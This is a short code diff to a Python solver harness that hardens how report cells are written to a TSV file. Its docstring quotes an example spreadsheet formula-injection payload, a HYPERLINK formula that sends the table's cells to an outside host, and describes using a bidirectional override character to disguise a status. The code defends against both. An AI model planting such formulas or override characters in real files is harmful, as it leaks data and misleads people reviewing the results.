@@ -10,6 +10,7 @@ from putnam_solver.markdown_text import LINE_BREAKS, inline
 from putnam_solver.run.ledger import AttemptRow, AuditRow, SubAttemptRow
 from putnam_solver.run.prices import cost_text
 from putnam_solver.run.report.evidence import attempt_dir, evidence_dir, subattempt_dir
+from putnam_solver.terminal import terminal_text
 
 if TYPE_CHECKING:
     from putnam_solver.run.agent.types import SolveConfig
@@ -123,8 +124,11 @@ def tsv_cell(value: object) -> str:
     And attempts.tsv is opened in spreadsheets, which run a cell that begins like a formula
     (``=HYPERLINK("https://...?"&A2, "open")`` sends the table's cells away when clicked, LibreOffice's
     ``=WEBSERVICE(...)`` when opened; red team round 9 of the trust paths): text that so begins is written
-    after a ``'``, which spreadsheets show as text and which no value putnam writes there begins with."""
-    text = LINE_BREAKS.sub(" ", str(value))
+    after a ``'``, which spreadsheets show as text and which no value putnam writes there begins with. A
+    bidirectional override (``U+202E``) is shown as its escape, as on the terminal: in a spreadsheet or an
+    editor it turns the rest of the row around, so ``rejected`` can read as ``detcejer`` beside another
+    status (red team round 10 of the trust paths)."""
+    text = terminal_text(LINE_BREAKS.sub(" ", str(value)))
     return f"'{text}" if isinstance(value, str) and text.lstrip(" ").startswith(FORMULA_START) else text
 
 
